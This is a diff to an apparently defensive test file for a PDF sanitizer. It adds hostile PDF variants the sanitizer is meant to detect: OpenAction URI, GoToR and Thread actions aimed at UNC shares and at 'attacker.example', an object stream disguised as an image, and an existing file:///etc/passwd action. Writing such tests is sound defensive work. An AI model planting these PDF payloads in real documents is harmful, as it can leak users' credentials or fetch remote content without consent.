@@ -148,6 +148,12 @@ export function activeVariants(): [string, Buffer][] {
     ],
     ["a file: URI", withStream("", Buffer.from(""), "<</Type /Catalog /Pages 2 0 R /OpenAction <</S /URI /URI (file:///etc/passwd)>>>>")],
     ["an incremental update adding the action", incrementalUpdate(withStream("/Filter /FlateDecode", flate(Buffer.from("BT ET"))), JS_CATALOG)],
+    // Found by the outside review after the first fix: the stream's own dictionary is attacker-chosen.
+    ["an object stream that also calls itself an /Image", objectStream(JS_CATALOG, "/FlateDecode", flate, " /Subtype /Image")],
+    ["/GoToR to a file on a UNC share", catalogIn("/OpenAction <</S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit]>>")],
+    ["/Thread action with a remote file spec", catalogIn("/OpenAction <</S /Thread /F <</FS /URL /F (http://attacker.example/x.pdf)>> /D 0>>")],
+    ["a UNC URI", catalogIn("/OpenAction <</S /URI /URI (\\\\\\\\attacker\\\\share)>>")],
+    ["a scheme-relative URI", catalogIn("/OpenAction <</S /URI /URI (//attacker.example/share)>>")],
     [
       "an incremental update adding an AHx object stream",
       Buffer.concat([withStream("", Buffer.from("")), objectStream(JS_CATALOG, "/AHx", asciiHex).subarray(9)]),
